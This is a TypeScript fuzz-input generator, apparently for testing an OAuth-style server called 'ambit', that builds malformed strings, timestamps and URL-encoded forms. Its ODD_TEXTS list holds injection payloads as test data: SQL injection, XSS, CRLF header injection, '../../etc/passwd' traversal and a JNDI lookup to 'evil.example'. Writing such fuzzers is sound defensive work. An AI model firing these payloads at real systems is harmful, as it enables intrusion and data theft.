import type { Dice } from '../dice.ts';
import { utf8 } from '../request.ts';

const ODD_TEXTS = [
  '',
  ' ',
  '\0',
  'a\0b',
  '\r\nX-Injected: yes',
  '\t',
  '"',
  '\\',
  '%',
  '%00',
  '%zz',
  '..',
  '../../etc/passwd',
  '/',
  '//evil.example/',
  '*',
  ':',
  'a:b:c:d',
  'ambit',
  'AMBIT-ADMIN',
  'ambit-admin',
  'ambit.client:write',
  'system',
  'null',
  'undefined',
  'true',
  '-1',
  '0x10',
  '1e9',
  'NaN',
  '99999999999999999999',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  "' OR 1=1--",
  '"; DROP TABLE clients;--',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  'https://evil.example/?a=b#c',
  'http://[::1',
  'javascript:1',
  'urn:ietf:params:oauth:token-type:access_token',
  'é',
  'e\u0301',
  '\u202egnp.exe',
  '\ufeffbom',
  '\u2028',
  '😀'.repeat(20),
  '\ud800',
  'x\udfff',
  'İı',
  '𝖆𝖉𝖒𝖎𝖓',
  'x'.repeat(65),
  'x'.repeat(129),
  'x'.repeat(600),
  'x'.repeat(5000),
  'a '.repeat(300),
] as const;

const LETTERS = 'abcdefghijklmnopqrstuvwxyz0123456789';

/** A text that somebody might send to do harm, or by mistake. */
export function oddText(dice: Dice): string {
  if (dice.chance(0.7)) return dice.pick(ODD_TEXTS);
  const top = dice.pick([0x7f, 0xff, 0xffff]);
  return Array.from({ length: dice.below(40) }, () => String.fromCharCode(dice.below(top))).join(
    '',
  );
}

/** A short word of plain letters and digits. */
export const word = (dice: Dice, length = 8): string =>
  Array.from({ length }, () => LETTERS[dice.below(LETTERS.length)]).join('');

/** A text with a slip of the hand in it: a character lost, doubled, changed or of the other case. */
export function slip(dice: Dice, text: string): string {
  const at = dice.below(text.length + 1);
  const [before, hit, after] = [text.slice(0, at), text.slice(at, at + 1), text.slice(at + 1)];
  return dice.pick([
    before + after,
    before + hit + hit + after,
    before + dice.pick(['x', '-', '\0', 'é', ' ', '.']) + after,
    text.toUpperCase(),
    ` ${text}`,
    `${text}/`,
  ]);
}

const TIMES = [
  '2020-01-01T00:00:00Z',
  '2026-06-01T12:00:00.123456789+14:00',
  '9999-12-31T23:59:59Z',
  '1969-12-31T23:59:59-01:00',
  '0001-01-01T00:00:00Z',
] as const;

/** The hour that it is, so that a replay within it speaks of the same times. */
export const thisHour = (): number => Math.floor(Date.now() / 3_600_000) * 3_600_000;

/** A moment that is well-formed (RFC 3339), some minutes or days from another in most cases. */
export function someTime(dice: Dice, now = thisHour()): string {
  if (dice.chance(0.2)) return dice.pick(TIMES);
  const away = dice.pick([60_000, 3_600_000, 86_400_000]) * (1 + dice.below(50));
  return new Date(now + (dice.chance(0.4) ? -away : away)).toISOString();
}

/** A text as part of a target or form, with every byte escaped that has to be, and some that have not. */
export function escaped(dice: Dice, text: string): string {
  const eager = dice.chance(0.05);
  return Array.from(utf8(text), (byte) =>
    !eager && /[A-Za-z0-9._~-]/.test(byte)
      ? byte
      : byte === ' ' && dice.chance(0.5)
        ? '%20'
        : `%${byte.charCodeAt(0).toString(16).padStart(2, '0')}`,
  ).join('');
}

/** A form or query: `application/x-www-form-urlencoded`. */
export const formOf = (dice: Dice, pairs: readonly (readonly [string, string])[]): string =>
  pairs
    .map(([name, value]) => `${escaped(dice, name)}=${escaped(dice, value)}`.replaceAll('%20', '+'))
    .join('&');

/** A form with something wrong in the very writing of it. */
export function brokenForm(dice: Dice, form: string): string {
  const at = dice.below(form.length + 1);
  return dice.pick([
    `${form.slice(0, at)}%${form.slice(at)}`,
    `${form.slice(0, at)}%c0%af${form.slice(at)}`,
    `${form.slice(0, at)}\xff\xfe\0${form.slice(at)}`,
    `${form}&&&=&`,
    `${form}&${'a[b]=1&'.repeat(50)}`,
    form.replaceAll('&', ';'),
    form.slice(0, at),
    `\ufeff${form}`.replace('\ufeff', '\xef\xbb\xbf'),
  ]);
}
